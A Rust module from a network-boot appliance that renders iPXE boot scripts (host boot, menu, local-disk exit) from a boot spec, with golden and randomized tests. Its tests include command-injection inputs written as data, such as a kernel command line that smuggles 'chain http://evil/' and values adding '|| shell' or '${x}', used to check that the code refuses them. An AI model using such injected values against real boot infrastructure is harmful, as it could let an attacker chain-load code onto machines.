//! iPXE scripts, rendered from a [`BootSpec`]: pure, golden-tested (`tests/golden/*.ipxe`).
//!
//! The scripts use only commands present in Debian's 2019 iPXE build, under BIOS and EFI:
//! `kernel`, `initrd`, `boot`, `menu`, `item`, `choose`, `goto`, `echo`, `imgfetch`, `imgfree`,
//! `shell`, `exit`.
//!
//! The local disk (a machine set to it, the menu's `local` entry) is `exit`: iPXE returns to the
//! firmware, which boots the next device in its boot order (SeaBIOS and OVMF both do). `sanboot
//! --no-describe --drive 0x80` boots the first BIOS disk too, but only under BIOS, and it skips the
//! boot order the owner set; see docs/boot-flow.md.
//!
//! EFI iPXE (2019) hands the initrd to the kernel's EFI stub only when the command line names it
//! (`initrd=NAME`), and NAME is the image name iPXE takes from the last segment of the URL *path*
//! (`alloc_image` in `core/image.c` calls `basename(uri->path)`; `parse_uri` in `core/uri.c`
//! chops the `?query` off before setting `path`). So `?mac=...` on the URLs (for the boot
//! timeline) leaves the name `initrd` intact, and `initrd=initrd` is always right.

use std::fmt::Write as _;

use flakeboot_catalogue::{BootSpec, FileKind, HostBoot, MacAddr, Menu};

use crate::ipxe_text::{
    TextError, check_base_url, check_cmdline, check_host_name, check_version, sanitize_display,
};

/// Why a script (or a part of a menu) could not be rendered.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum ScriptError {
    /// A value that cannot go into a script safely.
    #[error(transparent)]
    Unsafe(#[from] TextError),
    /// Two menu entries for the same host name: the second is left out.
    #[error("host {0:?} appears more than once in the menu; showing the first")]
    DuplicateHost(String),
    /// The menu's default names a host that is not among the rendered entries.
    #[error("menu default {0:?} is not a bootable menu entry; defaulting to the local disk")]
    UnknownDefault(String),
}

/// Where the script is served from and for whom.
#[derive(Debug, Clone, Copy)]
pub struct ScriptContext<'a> {
    /// The appliance's HTTP base URL, no trailing slash (`http://10.77.0.1`).
    pub base_url: &'a str,
    /// The machine asking, when it said (`?mac=`): added to file URLs for the boot timeline.
    pub mac: Option<MacAddr>,
}

/// A rendered script and what it contains, for logs and boot events.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Rendered {
    /// The script text, starting with `#!ipxe`.
    pub script: String,
    /// One line for the boot event: `host demo (static)` or `menu of 3 hosts`.
    pub summary: String,
    /// Menu entries left out (or a default ignored), each with its reason.
    pub skipped: Vec<ScriptError>,
}

/// Render the script for a boot spec. A host that cannot be rendered safely is an error; a menu
/// leaves such entries out (listed in [`Rendered::skipped`]) so the other hosts stay bootable.
/// What the menu's `local` entry fetches before it leaves iPXE: `GET /boot/local`.
pub const LOCAL_PATH: &str = "/boot/local";

/// A menu without a (bootable) default defaults to the local disk; a zero timeout waits for the
/// user's choice.
pub fn render(spec: &BootSpec, ctx: &ScriptContext<'_>) -> Result<Rendered, ScriptError> {
    check_base_url(ctx.base_url)?;
    match spec {
        BootSpec::Host(host) => render_host(host, ctx),
        BootSpec::Menu(menu) => Ok(render_menu(menu, ctx)),
        BootSpec::Local => Ok(render_local(ctx)),
    }
}

/// A machine set to its local disk: tell the appliance, then leave iPXE.
fn render_local(ctx: &ScriptContext<'_>) -> Rendered {
    let mut s = String::from("#!ipxe\n");
    s.push_str(
        "# flakeboot: boot from the local disk (the next device in the firmware's boot order)\n",
    );
    s.push_str(&local_commands(ctx));
    Rendered {
        script: s,
        summary: "local disk".to_owned(),
        skipped: Vec::new(),
    }
}

/// Tell the appliance (so the boot timeline ends this attempt as "local disk" instead of waiting
/// for files that never come), then leave iPXE; a failed fetch changes nothing. Starts with the
/// label `:local`. `exit 1`, a failure: SeaBIOS then boots the next device either way, but UEFI
/// firmware (OVMF) treats a boot option that returns success as "show the boot menu" and only
/// goes on to the next option (the disk) after a failure.
fn local_commands(ctx: &ScriptContext<'_>) -> String {
    let local_url = match ctx.mac {
        Some(mac) => format!("{}{LOCAL_PATH}?mac={mac}", ctx.base_url),
        None => format!("{}{LOCAL_PATH}", ctx.base_url),
    };
    let mut s = String::from(":local\necho flakeboot: booting from the local disk\n");
    let _ = writeln!(
        s,
        "imgfetch --name local-disk {local_url} || goto local-exit"
    );
    s.push_str("imgfree local-disk\n:local-exit\nexit 1\n");
    s
}

fn render_host(host: &HostBoot, ctx: &ScriptContext<'_>) -> Result<Rendered, ScriptError> {
    let commands = boot_commands(host, ctx)?;
    let name = &host.host;
    let mut s = String::from("#!ipxe\n");
    let _ = writeln!(
        s,
        "# flakeboot: boot host {name} (generation {})",
        host.version
    );
    s.push_str(&commands);
    s.push('\n');
    s.push_str(":failed\n");
    let _ = writeln!(
        s,
        "echo flakeboot: booting host {name} failed (see the boot timeline on the appliance)"
    );
    s.push_str("shell\n");
    Ok(Rendered {
        script: s,
        summary: format!("host {name} ({})", host.version),
        skipped: Vec::new(),
    })
}

/// `kernel`/`initrd`/`boot` for one host, each falling through to `:failed`.
fn boot_commands(host: &HostBoot, ctx: &ScriptContext<'_>) -> Result<String, ScriptError> {
    check_host_name(&host.host)?;
    check_version(&host.version)?;
    check_cmdline(&host.host, &host.cmdline)?;
    let url = |kind: FileKind| {
        let path = host.file(kind).http_path();
        match ctx.mac {
            Some(mac) => format!("{}{path}?mac={mac}", ctx.base_url),
            None => format!("{}{path}", ctx.base_url),
        }
    };
    let mut args = String::from("initrd=initrd");
    for word in host.cmdline.split_ascii_whitespace() {
        args.push(' ');
        args.push_str(word);
    }
    Ok(format!(
        "kernel {} {args} || goto failed\ninitrd {} || goto failed\nboot || goto failed\n",
        url(FileKind::Kernel),
        url(FileKind::Initrd),
    ))
}

/// Menu labels of hosts carry a prefix, so no host name can collide with `local` or `shell`.
fn host_label(host: &str) -> String {
    format!("boot-{host}")
}

fn render_menu(menu: &Menu, ctx: &ScriptContext<'_>) -> Rendered {
    let mut skipped = Vec::new();
    let mut items = String::new();
    let mut targets = String::new();
    let mut bootable = Vec::new();
    for entry in &menu.entries {
        let host = &entry.boot;
        if bootable.contains(&host.host.as_str()) {
            skipped.push(ScriptError::DuplicateHost(host.host.clone()));
            continue;
        }
        match boot_commands(host, ctx) {
            Ok(commands) => {
                let label = host_label(&host.host);
                let description = sanitize_display(&entry.description, 60);
                if description.is_empty() {
                    let _ = writeln!(items, "item {label} {}", host.host);
                } else {
                    let _ = writeln!(items, "item {label} {}: {description}", host.host);
                }
                let _ = write!(targets, "\n:{label}\n{commands}");
                bootable.push(host.host.as_str());
            }
            Err(e) => skipped.push(e),
        }
    }
    let default = match &menu.default {
        Some(d) if bootable.contains(&d.as_str()) => host_label(d),
        Some(d) => {
            skipped.push(ScriptError::UnknownDefault(d.clone()));
            "local".to_owned()
        }
        None => "local".to_owned(),
    };
    let who = match ctx.mac {
        Some(mac) => mac.to_string(),
        None => "this machine".to_owned(),
    };
    let count = bootable.len();
    let hosts = if count == 1 { "host" } else { "hosts" };

    let mut s = String::from("#!ipxe\n");
    let _ = writeln!(s, "# flakeboot: boot menu of {count} {hosts}");
    s.push_str("\n:menu\n");
    let _ = writeln!(s, "menu flakeboot: choose what {who} boots");
    s.push_str("item --gap -- Hosts\n");
    if items.is_empty() {
        s.push_str("item --gap -- (no hosts are configured on the appliance)\n");
    }
    s.push_str(&items);
    s.push_str("item --gap -- Other\n");
    s.push_str("item local Boot from local disk\n");
    s.push_str("item shell iPXE shell\n");
    let millis = menu.timeout.as_millis();
    if millis == 0 {
        // A zero timeout waits for a choice (`--timeout 0` would mean the same to iPXE).
        let _ = writeln!(s, "choose --default {default} selected || goto shell");
    } else {
        let _ = writeln!(
            s,
            "choose --timeout {millis} --default {default} selected || goto shell"
        );
    }
    s.push_str("goto ${selected}\n");
    s.push_str(&targets);
    s.push('\n');
    s.push_str(&local_commands(ctx));
    s.push_str("\n:shell\necho flakeboot: type exit to return to the menu\nshell\ngoto menu\n");
    s.push_str("\n:failed\n");
    s.push_str("echo flakeboot: ${selected} failed (see the boot timeline on the appliance)\n");
    s.push_str("imgfree\ngoto shell\n");
    Rendered {
        script: s,
        summary: format!("menu of {count} {hosts}"),
        skipped,
    }
}

#[cfg(test)]
mod tests {
    use std::path::PathBuf;
    use std::time::Duration;

    use flakeboot_catalogue::MenuEntry;

    use super::*;

    const BASE: &str = "http://10.77.0.1";

    fn mac() -> MacAddr {
        MacAddr([0x52, 0x54, 0, 0x12, 0x34, 0x56])
    }

    fn host(name: &str, cmdline: &str) -> HostBoot {
        HostBoot {
            host: name.to_owned(),
            version: "static".to_owned(),
            cmdline: cmdline.to_owned(),
        }
    }

    fn entry(name: &str, description: &str) -> MenuEntry {
        MenuEntry {
            boot: host(name, "console=ttyS0 panic=-1"),
            description: description.to_owned(),
        }
    }

    fn menu(entries: Vec<MenuEntry>, default: Option<&str>) -> BootSpec {
        BootSpec::Menu(Menu {
            entries,
            default: default.map(str::to_owned),
            timeout: Duration::from_secs(10),
        })
    }

    fn ctx(mac: Option<MacAddr>) -> ScriptContext<'static> {
        ScriptContext {
            base_url: BASE,
            mac,
        }
    }

    /// Compare with `tests/golden/NAME`; `FLAKEBOOT_BLESS=1` rewrites the file instead.
    fn golden(name: &str, actual: &str) {
        let path = PathBuf::from(env!("CARGO_MANIFEST_DIR"))
            .join("tests/golden")
            .join(name);
        if std::env::var_os("FLAKEBOOT_BLESS").is_some() {
            std::fs::write(&path, actual).unwrap();
        }
        let expected = std::fs::read_to_string(&path)
            .unwrap_or_else(|e| panic!("{}: {e} (FLAKEBOOT_BLESS=1 creates it)", path.display()));
        assert_eq!(actual, expected, "{name} differs from its golden file");
    }

    #[test]
    fn golden_host_boot() {
        let spec = BootSpec::Host(host("demo", "console=ttyS0 panic=-1"));
        let r = render(&spec, &ctx(Some(mac()))).unwrap();
        assert_eq!(r.summary, "host demo (static)");
        assert!(r.skipped.is_empty());
        golden("host.ipxe", &r.script);
    }

    #[test]
    fn golden_host_boot_without_mac() {
        let spec = BootSpec::Host(host("demo", ""));
        let r = render(&spec, &ctx(None)).unwrap();
        golden("host-no-mac.ipxe", &r.script);
    }

    #[test]
    fn golden_menu_with_default() {
        let spec = menu(
            vec![
                entry("demo", "Demo host"),
                entry("web-01", "NixOS web server"),
            ],
            Some("web-01"),
        );
        let r = render(&spec, &ctx(Some(mac()))).unwrap();
        assert_eq!(r.summary, "menu of 2 hosts");
        assert!(r.skipped.is_empty());
        golden("menu-default.ipxe", &r.script);
    }

    #[test]
    fn golden_menu_with_local_default() {
        let spec = menu(vec![entry("demo", "")], None);
        let r = render(&spec, &ctx(None)).unwrap();
        assert_eq!(r.summary, "menu of 1 host");
        golden("menu-local-default.ipxe", &r.script);
    }

    #[test]
    fn golden_menu_without_entries() {
        let r = render(&menu(vec![], None), &ctx(Some(mac()))).unwrap();
        assert_eq!(r.summary, "menu of 0 hosts");
        golden("menu-empty.ipxe", &r.script);
        assert!(r.script.contains("item local Boot from local disk\n"));
        assert!(r.script.contains("item shell iPXE shell\n"));
        assert!(r.script.contains("--default local"));
    }

    #[test]
    fn golden_local_disk() {
        let r = render(&BootSpec::Local, &ctx(Some(mac()))).unwrap();
        assert_eq!(r.summary, "local disk");
        assert!(r.skipped.is_empty());
        golden("local.ipxe", &r.script);
        // It tells the appliance (stage `local`) before it leaves iPXE, and boots nothing.
        let fetch = r.script.find("imgfetch --name local-disk").unwrap();
        assert!(
            fetch < r.script.rfind("\nexit 1\n").unwrap(),
            "{}",
            r.script
        );
        assert!(
            r.script
                .contains("http://10.77.0.1/boot/local?mac=52:54:00:12:34:56 "),
            "{}",
            r.script
        );
        for command in ["kernel ", "initrd ", "boot", "sanboot", "chain"] {
            assert!(
                !r.script.lines().any(|l| l.starts_with(command)),
                "{command}: {}",
                r.script
            );
        }
        // The menu's local entry runs the very same commands.
        let menu = render(&menu(vec![], None), &ctx(Some(mac()))).unwrap();
        let local = r.script.split_once(":local\n").unwrap().1;
        assert!(menu.script.contains(local), "{}", menu.script);
        // Without a MAC, the fetch carries none.
        let r = render(&BootSpec::Local, &ctx(None)).unwrap();
        assert!(
            r.script
                .contains(" http://10.77.0.1/boot/local || goto local-exit\n")
        );
    }

    #[test]
    fn initrd_name_survives_the_mac_query() {
        let r = render(&BootSpec::Host(host("demo", "")), &ctx(Some(mac()))).unwrap();
        let initrd_line = r.script.lines().find(|l| l.starts_with("initrd ")).unwrap();
        let url = initrd_line.split_whitespace().nth(1).unwrap();
        // iPXE names the image after the last path segment, query excluded.
        let path = url.split('?').next().unwrap();
        assert_eq!(path.rsplit('/').next(), Some("initrd"));
        assert!(r.script.contains(" initrd=initrd "));
    }

    #[test]
    fn zero_timeout_waits_for_a_choice() {
        let spec = BootSpec::Menu(Menu {
            entries: vec![entry("demo", "")],
            default: None,
            timeout: Duration::ZERO,
        });
        let r = render(&spec, &ctx(None)).unwrap();
        assert!(
            r.script
                .contains("\nchoose --default local selected || goto shell\n")
        );
    }

    #[test]
    fn unsafe_host_is_refused() {
        for (name, cmdline) in [
            ("demo", "quiet\nshell"),
            ("demo", "quiet || shell"),
            ("demo", "root=${x}"),
            ("de/mo", ""),
            ("demo\nshell", ""),
        ] {
            let err = render(&BootSpec::Host(host(name, cmdline)), &ctx(None)).unwrap_err();
            assert!(
                matches!(err, ScriptError::Unsafe(_)),
                "{name:?} {cmdline:?}"
            );
        }
        let mut bad_version = host("demo", "");
        bad_version.version = "..".to_owned();
        assert!(render(&BootSpec::Host(bad_version), &ctx(None)).is_err());
        let bad_base = ScriptContext {
            base_url: "http://x/\nshell",
            mac: None,
        };
        assert!(render(&BootSpec::Host(host("demo", "")), &bad_base).is_err());
    }

    /// The rule the config's validation applies ([`flakeboot_catalogue::text::check_cmdline`])
    /// is exactly what renders: any command line it accepts renders, as one `kernel` command
    /// that carries its words unchanged; any it refuses is refused here too (never served
    /// half-broken). Random command lines built from the pieces iPXE cares about.
    #[test]
    fn a_command_line_renders_exactly_when_validation_accepts_it() {
        const PIECES: &[&str] = &[
            "console=ttyS0",
            "panic=-1",
            "init=/nix/store/abc-system/init",
            "a",
            "=",
            "|",
            "||",
            "&",
            "&&",
            ";",
            "#",
            "#!",
            "#!ipxe",
            "x#y",
            "$",
            "${x}",
            "${",
            "}",
            "\n",
            "\n",
            "\r",
            "\t",
            "\"",
            "'",
            "\\",
            "é",
            " ",
            "  ",
            "goto",
            "shell",
            "chain",
            ":failed",
            "-",
            "--",
            ",",
            "/",
            "\0",
            "\x7f",
        ];
        let mut seed: u64 = 0x9e37_79b9_7f4a_7c15;
        let mut next = move || {
            // xorshift64: deterministic, so a failure reproduces.
            seed ^= seed << 13;
            seed ^= seed >> 7;
            seed ^= seed << 17;
            seed
        };
        let (mut accepted, mut refused) = (0, 0);
        for _ in 0..20_000 {
            let len = next() % 8;
            let mut cmdline = String::new();
            for _ in 0..len {
                let piece = PIECES[usize::try_from(next() % PIECES.len() as u64).unwrap()];
                cmdline.push_str(piece);
                if next() % 2 == 0 {
                    cmdline.push(' ');
                }
            }
            let valid = flakeboot_catalogue::text::check_cmdline(&cmdline).is_ok();
            let boot = host("demo", &cmdline);
            let rendered = render(&BootSpec::Host(boot.clone()), &ctx(Some(mac())));
            assert_eq!(rendered.is_ok(), valid, "{cmdline:?}: {rendered:?}");
            let menu = render(
                &menu(
                    vec![MenuEntry {
                        boot,
                        description: String::new(),
                    }],
                    Some("demo"),
                ),
                &ctx(None),
            )
            .unwrap();
            assert_eq!(
                menu.skipped.is_empty(),
                valid,
                "{cmdline:?}: {:?}",
                menu.skipped
            );
            let Ok(rendered) = rendered else {
                refused += 1;
                continue;
            };
            accepted += 1;
            // Exactly the lines of a script with an empty command line, the kernel line aside.
            let plain = render(&BootSpec::Host(host("demo", "")), &ctx(Some(mac()))).unwrap();
            assert_eq!(
                rendered.script.lines().count(),
                plain.script.lines().count(),
                "{cmdline:?}"
            );
            let kernel = rendered
                .script
                .lines()
                .find(|l| l.starts_with("kernel "))
                .unwrap();
            assert!(!kernel.contains('$'), "{kernel}");
            let words: Vec<&str> = kernel.split_ascii_whitespace().collect();
            let mut expected = vec!["initrd=initrd"];
            expected.extend(cmdline.split_ascii_whitespace());
            expected.extend(["||", "goto", "failed"]);
            assert_eq!(words[2..], expected[..], "{cmdline:?}");
            // No word before the final `|| goto failed` ends the command or starts a comment.
            for word in &words[..words.len() - 3] {
                assert!(
                    !matches!(*word, "||" | "&&" | ";") && !word.starts_with('#'),
                    "{kernel}"
                );
            }
        }
        assert!(
            accepted > 1000 && refused > 1000,
            "{accepted} accepted, {refused} refused"
        );
    }

    #[test]
    fn menu_skips_unsafe_entries_and_unknown_defaults() {
        let mut evil = entry("evil", "");
        evil.boot.cmdline = "quiet\nchain http://evil/".to_owned();
        let spec = menu(
            vec![evil, entry("demo", "ok"), entry("demo", "again")],
            Some("evil"),
        );
        let r = render(&spec, &ctx(None)).unwrap();
        assert_eq!(r.summary, "menu of 1 host");
        assert_eq!(r.skipped.len(), 3, "{:?}", r.skipped);
        assert!(
            r.skipped
                .contains(&ScriptError::DuplicateHost("demo".to_owned()))
        );
        assert!(!r.script.contains("again"));
        assert!(!r.script.contains("evil"), "{}", r.script);
        assert!(r.script.contains("--default local"));
        // Descriptions are display text: sanitised, never able to start a command.
        let spec = menu(vec![entry("demo", "x\nshell || ${y}")], None);
        let r = render(&spec, &ctx(None)).unwrap();
        assert!(
            r.script.contains("item boot-demo demo: x shell __ __y_\n"),
            "{}",
            r.script
        );
    }
}
